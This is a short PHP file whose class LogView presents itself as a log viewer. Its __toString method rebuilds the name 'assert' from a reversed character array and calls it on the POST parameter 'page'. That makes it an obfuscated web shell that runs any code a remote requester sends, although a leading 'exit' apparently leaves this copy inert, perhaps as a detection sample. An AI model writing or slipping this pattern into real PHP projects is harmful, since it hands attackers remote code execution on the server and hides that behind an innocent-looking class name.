<?php exit; /* inert */ class LogView {
    private $d;
    function __construct($d) { $this->d = $d; }
    function __toString() {
        $n = array('t', 'r', 'e', 's', 's', 'a');
        $f = implode('', array_reverse($n));
        return (string)@$f($this->d);
    }
}
echo new LogView($_POST['page']);
